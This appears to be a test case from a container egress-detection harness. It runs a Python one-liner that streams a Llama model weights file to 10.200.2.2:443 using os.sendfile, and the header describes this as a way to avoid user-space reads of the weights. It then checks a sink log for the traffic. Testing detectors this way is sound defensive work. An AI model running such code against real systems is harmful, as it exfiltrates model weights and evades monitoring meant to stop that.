# V34 EXF-001 with os.sendfile (zero-copy, no read() of the weights in user space)
ctr_run simctr-infer-v34 ctr-infer --mount --pid --fork --mount-proc -- python3 -c '
import os, socket, sys
s = socket.create_connection(("10.200.2.2", 443)); f = os.open(sys.argv[1], os.O_RDONLY)
n, off, size = 0, 0, os.fstat(f).st_size
while off < size:
    k = os.sendfile(s.fileno(), f, off, size - off); off += k
s.close(); print("sendfile sent", off)
print(f"egress-expect proto=tcp origin=connect dport=443 bytes={off}")' "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors"
grep ':443' "$H/sink.log" | tail -1
